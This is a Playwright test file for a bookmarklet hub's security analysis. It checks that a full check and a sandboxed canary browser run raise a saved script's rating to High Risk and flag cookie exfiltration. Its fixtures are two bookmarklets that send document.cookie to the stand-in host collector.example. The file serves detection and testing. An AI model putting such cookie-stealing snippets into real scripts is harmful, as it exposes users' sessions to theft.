import { expect, type Page, test } from "@playwright/test";
import { succeed } from "@scriptorium/core-types/errors";
import { findChromium } from "@scriptorium/isolated-browser/find-chromium";
import { memoryLimitMb } from "@scriptorium/isolated-browser/limit-memory";
import { openCanaryBrowser } from "@scriptorium/script-canary/browser/open-canary-browser";
import { CANARY_VERSION } from "@scriptorium/script-canary/canary-version";
import { runCanary } from "@scriptorium/script-canary/run-canary";
import { createCanaryStore } from "@scriptorium/supabase/canary-worker/canary-store";
import { createFullCheckStore } from "@scriptorium/supabase/canary-worker/full-check/full-check-store";
import { LONG } from "@scriptorium/supabase/canary-worker/full-check/large-scripts.test-support";
import { runFullCheck } from "@scriptorium/supabase/canary-worker/full-check/run-full-check";
import { workOffChecks } from "@scriptorium/supabase/canary-worker/full-check/work-off-checks";
import { workOff } from "@scriptorium/supabase/canary-worker/work-off";
import { hubOrigin, publishableKey, signIn, watchForErrors } from "../support/hub.ts";
import { type OwnHub, startOwnHub } from "../support/own-hub.ts";
import { saveScriptAs } from "../support/save-script.ts";
import { accessToken } from "../support/stored-rows.ts";

let hub: OwnHub;
test.beforeAll(async () => {
	hub = await startOwnHub();
});
test.afterAll(() => hub.stop());

/** Saves a script and has the edge function rate it, as the editor does. @returns the address of its page */
async function saveRated(page: Page, title: string, code: string): Promise<string> {
	const saved = await saveScriptAs(page, { title, code });
	const answer = await page.request.post(`${hubOrigin()}/functions/v1/analyze-security`, {
		headers: { apikey: await publishableKey(page), Authorization: `Bearer ${await accessToken(page)}` },
		data: { version_id: saved.version_id },
	});
	expect(answer.status(), await answer.text()).toBe(200);
	return `${hubOrigin()}/bookmarklet/${saved.id}`;
}

const project = () => ({ url: hub.origin, serviceRoleKey: hub.backend.serviceRoleKey });

const analysis = (page: Page) => page.getByRole("region", { name: "Security Analysis" });

test("‘checked in part’ becomes the full result: promised while a worker is there, shown without a reload", async ({
	page,
	browser,
}) => {
	const errors = watchForErrors(page);
	await signIn(page, "Arthur Author");
	const code = `javascript:(()=>{${LONG}fetch("https://collector.example/" + document.cookie)})()`;
	const address = await saveRated(page, "Long words", code);
	await page.goto(address);
	await expect(analysis(page).getByText("Medium Risk")).toBeVisible();
	await expect(analysis(page).getByText(/Only the first check has looked at this script/)).toBeVisible();

	// The worker of this hub is this journey: what it has claimed is under way.
	const visitor = await (await browser.newContext()).newPage();
	const { signal } = new AbortController();
	const checked = await workOffChecks({
		store: createFullCheckStore(project()),
		signal,
		load: () => Promise.resolve({ stored: [], rated: [] }),
		run: async (input) => {
			await page.goto(address);
			await visitor.goto(address);
			for (const screen of [page, visitor]) {
				await expect(analysis(screen).getByText(/The full check is under way/)).toBeVisible();
			}
			return runFullCheck(input, { signal });
		},
	});
	expect(checked).toEqual(succeed({ done: 1, fuller: 1 }));
	for (const screen of [page, visitor]) {
		await expect(analysis(screen).getByText("High Risk", { exact: true })).toBeVisible({ timeout: 20_000 });
		await expect(analysis(screen).getByText(/the result of the full check/)).toBeVisible();
		await expect(analysis(screen).getByText("Cookie exfiltration", { exact: true })).toBeVisible();
	}
	expect(errors).toEqual([]);
});

test("a saved script is tried in the canary's browser: what it sees makes it High, without a reload", async ({
	page,
}) => {
	const errors = watchForErrors(page);
	await signIn(page, "Arthur Author");
	// Only this script waits for its run.
	await hub.sql`
		insert into private.canary_runs (version_id, canary_version, state)
		select latest_version_id, ${CANARY_VERSION}, 'ran' from public.bookmarklets where latest_version_id is not null
		on conflict (version_id) do nothing`;
	const code = `javascript:(()=>{${LONG}fetch("https://collector.example/", { method: "POST", body: document.cookie })})()`;
	const address = await saveRated(page, "Short cookies", code);
	const chromium = findChromium(process.env, []) ?? "";
	const browser = openCanaryBrowser({ chromium, memoryMb: memoryLimitMb({}, "CANARY_MEMORY_MB") });
	const { signal } = new AbortController();
	const worked = await workOff({
		store: createCanaryStore(project()),
		signal,
		run: async (input) => {
			await page.goto(address);
			await expect(analysis(page).getByText("Medium Risk")).toBeVisible();
			await expect(analysis(page).getByText(/What it sees can only raise the risk/)).toBeVisible();
			return runCanary(input, { browser, signal });
		},
	});
	await browser.close();
	expect(worked).toEqual(succeed({ done: 1, caught: 1 }));
	await expect(analysis(page).getByText("High Risk", { exact: true })).toBeVisible({ timeout: 20_000 });
	await expect(analysis(page).getByText(/findings whose names begin with ‘Canary’/)).toBeVisible();
	await expect(
		analysis(page)
			.getByText(/^Canary /)
			.first(),
	).toBeVisible();
	expect(errors).toEqual([]);
});
